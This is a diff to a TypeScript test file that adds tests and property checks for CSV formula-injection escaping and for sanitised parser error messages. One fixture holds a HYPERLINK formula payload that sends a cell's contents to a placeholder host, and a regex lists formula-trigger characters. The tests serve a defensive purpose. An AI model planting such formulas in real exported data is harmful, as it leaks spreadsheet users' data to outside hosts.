@@ -1,3 +1,4 @@
+import { parse as parseCsvRecords } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
@@ -7,6 +8,7 @@ import { CONTEXT_STATUSES, CONTEXT_TYPES } from '@contextpilot/contract';
 import { cleanContent, cleanLabel, cleanTags, InputRuleError } from './sanitize.js';
 import type { TextLimits } from './sanitize.js';
 import {
+  escapeFormula,
   EXPORT_FIELDS,
   exportCsv,
   exportJson,
@@ -14,6 +16,7 @@ import {
   ImportFormatError,
   normalizeTimestamp,
   parseImport,
+  unescapeFormula,
 } from './transfer.js';
 import type { ImportOptions, ImportParseResult } from './transfer.js';
 import type { ContextUnit } from './types.js';
@@ -233,12 +236,41 @@ describe('exportCsv', () => {
     expect(exportCsv([])).toBe(HEADER);
   });
 
-  it('quotes a field holding a lone CR, and leaves spaces and formulas alone', () => {
-    const csv = exportCsv([makeUnit({ content: 'a\rb' }), makeUnit({ id: 'u2', content: ' =1+1 ', source: '-x' })]);
+  it('quotes a field holding a lone CR, and leaves spaces and a formula after a space alone', () => {
+    const csv = exportCsv([makeUnit({ content: 'a\rb' }), makeUnit({ id: 'u2', content: ' =1+1 ', source: 'x-' })]);
     expect(csv).toBe(
       HEADER +
         'u1,fact,"a\rb",1.0,,manual,active,2026-01-02T03:04:05.123Z,,\r\n' +
-        'u2,fact, =1+1 ,1.0,,-x,active,2026-01-02T03:04:05.123Z,,\r\n',
+        'u2,fact, =1+1 ,1.0,,x-,active,2026-01-02T03:04:05.123Z,,\r\n',
+    );
+  });
+
+  it('writes every cell a spreadsheet would run as a formula quoted, behind a single quote', () => {
+    const csv = exportCsv([
+      makeUnit({
+        id: '-2-3',
+        content: '=HYPERLINK("http://x.test/?"&A1,"open")',
+        tags: ['-neg', 'ok'],
+        source: '@SUM(A1)',
+        supersededBy: '-1',
+      }),
+      makeUnit({ id: 'u2', content: '+1', source: '\tcmd' }),
+      makeUnit({ id: 'u3', content: '\rx', source: '\uFF1D1+1' }),
+    ]);
+    expect(csv).toBe(
+      HEADER +
+        `"'-2-3",fact,"'=HYPERLINK(""http://x.test/?""&A1,""open"")",1.0,"'-neg,ok","'@SUM(A1)",active,2026-01-02T03:04:05.123Z,,"'-1"\r\n` +
+        `u2,fact,"'+1",1.0,,"'\tcmd",active,2026-01-02T03:04:05.123Z,,\r\n` +
+        `u3,fact,"'\rx",1.0,,"'\uFF1D1+1",active,2026-01-02T03:04:05.123Z,,\r\n`,
+    );
+  });
+
+  it('adds one more quote to a cell that already starts with quotes before a formula character', () => {
+    const csv = exportCsv([makeUnit({ content: "'=1+1", source: "''@x" }), makeUnit({ id: 'u2', content: "'quoted" })]);
+    expect(csv).toBe(
+      HEADER +
+        `u1,fact,"''=1+1",1.0,,"'''@x",active,2026-01-02T03:04:05.123Z,,\r\n` +
+        `u2,fact,'quoted,1.0,,manual,active,2026-01-02T03:04:05.123Z,,\r\n`,
     );
   });
 
@@ -264,6 +296,25 @@ describe('parseImport round trips', () => {
   it('reads a CSV export back into identical units', () => {
     const result = importText('backup.csv', exportCsv(fixture), KEEP_IDS);
     expect(result).toEqual({ units: fixture, errors: [], total: fixture.length });
+  });
+
+  it('reads formula-escaped cells back exactly, including content that starts with quotes', () => {
+    const units = [
+      makeUnit({ id: '-1', content: '=1+1', tags: ['-a'], source: '+x', supersededBy: '-2' }),
+      makeUnit({ id: '-2', content: "'=1+1", source: "''-x" }),
+      makeUnit({ id: 'u3', content: "'plain", source: "'" }),
+      makeUnit({ id: 'u4', content: '\uFF20mention', source: '@' }),
+    ];
+    const result = importText('backup.csv', exportCsv(units), KEEP_IDS);
+    expect(result).toEqual({ units, errors: [], total: units.length });
+  });
+
+  it('reads a quote before a formula character as the escape, in files from other tools too', () => {
+    const result = importText('x.csv', "type,content,source\r\nfact,'=1+1,'-x\r\nfact,''@a,'b\r\n");
+    expect(result.units.map((u) => [u.content, u.source])).toEqual([
+      ['=1+1', '-x'],
+      ["'@a", "'b"],
+    ]);
   });
 
   it('reads empty exports back as nothing', () => {
@@ -429,6 +480,17 @@ describe('parseImport CSV', () => {
 
   it('refuses a quote inside an unquoted field', () => {
     expect(formatErrorOf(() => importText('x.csv', 'type,content\r\nfact,a"b\r\n'))).toMatch(/^Invalid CSV file: /);
+  });
+
+  it('passes on at most 160 characters of the parser message, escaped, however long the bad field is', () => {
+    const message = formatErrorOf(() => importText('x.csv', `type,content\r\nfact,a${'b\u202E'.repeat(5_000)}"x\r\n`));
+    expect(message).toMatch(/^Invalid CSV file: Invalid Opening Quote: .*…$/);
+    expect(message.length).toBeLessThan('Invalid CSV file: '.length + 160 * 6 + 1);
+    expect(message).not.toContain('\u202E');
+    // V8's message quotes the unexpected character and the text around it.
+    const json = formatErrorOf(() => importText('x.json', `\u202E${'x'.repeat(500)}`));
+    expect(json).toMatch(/^Invalid JSON file: .*\\u202e/);
+    expect(json).not.toContain('\u202E');
   });
 
   it('refuses a file with more than maxItems rows', () => {
@@ -807,13 +869,26 @@ const trickyChar = fc.constantFrom(
   '\\',
   '{',
   '[',
+  '\uFF1D',
+  '\uFF20',
 );
 const rawText = fc.oneof(
   fc.string({ unit: 'grapheme', maxLength: 40 }),
   fc.string({ unit: 'binary', maxLength: 40 }),
   fc.string({ unit: trickyChar, maxLength: 30 }),
 );
-const contentArb = rawText.map((text) => attempt(() => cleanContent(text, LIMITS))).filter(isDefined);
+/** Text that starts like a formula, possibly behind quotes, as the CSV formula escape must round-trip it. */
+const formulaLike = fc
+  .tuple(
+    fc.constantFrom('', "'", "''", "'''"),
+    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', 'a', ' '),
+    rawText,
+  )
+  .map((parts) => parts.join(''));
+const contentArb = fc
+  .oneof(rawText, formulaLike)
+  .map((text) => attempt(() => cleanContent(text, LIMITS)))
+  .filter(isDefined);
 const tagCharArb = fc.constantFrom(
   'a',
   'B',
@@ -838,7 +913,10 @@ const tagArb = fc
 const tagsArb = fc.array(tagArb, { maxLength: 8 }).map((tags) => cleanTags(tags, LIMITS));
 const sourceArb = fc.oneof(
   fc.constant('manual'),
-  rawText.map((text) => attempt(() => cleanLabel(text, 200, 'manual'))).filter(isDefined),
+  fc
+    .oneof(rawText, formulaLike)
+    .map((text) => attempt(() => cleanLabel(text, 200, 'manual')))
+    .filter(isDefined),
 );
 const idArb = fc.stringMatching(/^[A-Za-z0-9_.:-]{1,100}$/);
 const timestampArb = fc.date({ noInvalidDate: true }).map((date) => date.toISOString());
@@ -906,6 +984,30 @@ describe('parseImport properties', () => {
         const result = importText('backup.csv', exportCsv(units), KEEP_IDS);
         expect(result).toEqual({ units, errors: [], total: units.length });
       }),
+    );
+  });
+
+  it('never exports a cell that a spreadsheet would run as a formula', () => {
+    fc.assert(
+      fc.property(unitsArb, (units) => {
+        for (const row of parseCsvRecords<string[]>(exportCsv(units))) {
+          for (const cell of row) {
+            expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
+          }
+        }
+      }),
+    );
+  });
+
+  it('undoes the formula escape of any string, and escapes only what needs it', () => {
+    const cell = fc.oneof(fc.string({ unit: trickyChar, maxLength: 12 }), formulaLike, fc.string());
+    fc.assert(
+      fc.property(cell, (text) => {
+        const escaped = escapeFormula(text);
+        expect(unescapeFormula(escaped)).toBe(text);
+        expect(escaped === text).toBe(!/^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text));
+      }),
+      { numRuns: 2_000 },
     );
   });
 
